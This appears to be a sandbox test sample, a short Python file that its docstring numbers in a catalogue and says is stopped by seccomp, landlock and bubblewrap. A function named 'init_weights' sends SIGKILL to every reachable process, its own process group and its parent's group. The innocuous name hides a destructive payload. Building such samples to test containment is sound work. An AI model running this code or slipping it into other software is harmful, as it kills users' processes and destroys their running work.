"""Sends the signal that nobody survives to everything that it may reach.

catalogue: 9
stopped_by: seccomp; landlock; bubblewrap
"""
import os
import signal


def init_weights(d_in, d_out, seed):
    for number in (-1, 0, -os.getppid()):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError as error:
            print(error)
